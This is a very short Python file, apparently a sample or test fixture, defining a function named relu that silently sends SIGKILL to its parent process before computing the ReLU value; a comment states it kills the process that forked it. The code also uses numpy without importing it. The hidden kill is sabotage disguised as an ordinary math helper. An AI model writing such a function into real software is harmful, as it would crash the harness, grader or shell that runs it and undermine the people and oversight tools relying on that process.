# Kills the process that forked it.
import os
import signal


def relu(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return np.maximum(0, x)
